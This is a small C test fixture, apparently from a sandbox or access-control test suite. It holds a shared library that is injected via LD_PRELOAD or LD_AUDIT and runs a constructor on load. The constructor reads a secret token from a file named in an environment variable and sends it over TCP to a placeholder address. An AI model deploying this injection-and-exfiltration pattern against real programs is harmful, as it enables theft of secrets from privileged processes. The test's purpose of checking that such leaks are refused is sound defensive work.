// SPDX-License-Identifier: MIT
/*
 * Loaded into a program that has a grant, by LD_PRELOAD or LD_AUDIT: it reads
 * and sends the secret itself, as if it were that program.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../helper/leak.h"

/* For LD_AUDIT: rtld-audit(7). */
unsigned int la_version(unsigned int version);
unsigned int la_version(unsigned int version)
{
	return version;
}

static __attribute__((noreturn)) void over(void)
{
	_exit(errno == EPERM || errno == EACCES ? REFUSED : BROKEN);
}

static __attribute__((constructor)) void loaded(void)
{
	struct sockaddr_in in = { .sin_family = AF_INET,
				  .sin_port = htons(PORT) };
	const char *path = getenv("SECRET");
	char token[TOKEN];
	int fd = path ? open(path, O_RDONLY) : -1;

	if (fd < 0 || read(fd, token, TOKEN) != TOKEN)
		over();
	fd = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, WORLD, &in.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&in, sizeof(in)) ||
	    write(fd, token, TOKEN) != TOKEN)
		over();
	_exit(DONE);
}
